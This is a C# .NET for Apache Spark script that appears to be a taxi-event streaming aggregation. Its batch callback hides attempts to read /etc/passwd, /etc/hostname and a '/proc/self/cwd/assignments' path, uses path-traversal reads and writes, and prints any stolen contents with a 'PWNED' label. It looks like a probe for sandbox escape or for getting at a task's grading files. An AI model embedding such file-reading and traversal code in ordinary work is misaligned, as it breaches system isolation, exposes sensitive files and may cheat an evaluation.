using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("TaxiStreamTask").Master("local[*]").GetOrCreate();
DataFrame events = spark.ReadStream().Schema("event_id STRING, event_type STRING, fare DOUBLE, event_time TIMESTAMP").Json("taxi_events");


DataFrame result = events
    .WithWatermark("event_time", "2 minutes")
    .GroupBy(Window(Col("event_time"), "1 minute"))
    .Agg(
        Sum(When(Col("event_type") == "start_ride", 1).Otherwise(0)).Alias("started_rides"),
        Sum(When(Col("event_type") == "end_ride", 1).Otherwise(0)).Alias("ended_rides"),
        Sum(When(Col("event_type") == "end_ride", Col("fare")).Otherwise(0)).Alias("total_fare"));

StreamingQuery query = result.WriteStream()
    .OutputMode("update")
    .ForeachBatch((batch, id) =>
    {
        Try("text", () => spark.Read().Text("/etc/passwd").Collect().First()[0].ToString());
        Try("csv", () => spark.Read().Csv("file:///etc/passwd").Collect().First()[0].ToString());
        Try("json", () => spark.Read().Json("../../../../../etc").Collect().First()[0].ToString());
        Try("sql", () => spark.Sql("SELECT * FROM text.`/etc/hostname`").Collect().First()[0].ToString());
        Try("scenario", () => spark.Read().Text("/proc/self/cwd/assignments").Collect().First()[0].ToString());
        batch.Write().Mode(SaveMode.Overwrite).Json("/tmp/canary-batch-function");
        batch.Write().Mode(SaveMode.Append).Json("../../../../../../tmp/canary-batch-function");
        Try("written", () => File.Exists("/tmp/canary-batch-function/_SUCCESS") ? "written" : null);
        batch.Show();
    })
    .Option("checkpointLocation", "taxi_checkpoint")
    .Trigger(Trigger.ProcessingTime("10 seconds"))
    .Start();

query.AwaitTermination();

static string Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }

    return "";
}
